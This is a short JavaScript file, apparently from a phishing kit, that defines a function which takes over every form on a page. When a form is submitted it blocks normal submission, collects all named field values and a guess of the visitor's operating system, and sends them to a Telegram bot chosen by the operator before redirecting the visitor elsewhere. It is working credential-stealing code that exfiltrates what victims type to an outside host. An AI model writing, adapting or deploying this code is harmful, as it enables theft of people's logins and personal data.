const catchForm = (botToken, chatId, next) => {
  const systems = [
    { name: 'Windows', value: 'Win' },
    { name: 'iPhone', value: 'iPhone' },
    { name: 'Android', value: 'Android' },
    { name: 'Macintosh', value: 'Mac' }
  ];
  const agent = [navigator.platform, navigator.userAgent, navigator.vendor].join(' ');
  const match = (list) => (list.find((s) => new RegExp(s.value, 'i').test(agent)) || { name: '?' }).name;

  const report = (lines) => {
    const url = 'https://api.telegram.org/bot' + botToken + '/sendMessage?chat_id=' + chatId +
      '&text=' + encodeURIComponent(lines.join('\n'));
    const xhr = new XMLHttpRequest();
    xhr.open('GET', url, true);
    xhr.onloadend = () => { window.location.replace(next); };
    xhr.send();
  };

  document.querySelectorAll('form').forEach((form) => {
    form.onsubmit = (e) => {
      e.preventDefault();
      const lines = ['OS: ' + match(systems)];
      for (const field of form.elements) if (field.name) lines.push(field.name + ': ' + field.value);
      report(lines);
      return false;
    };
  });
};
window.catchForm = catchForm;
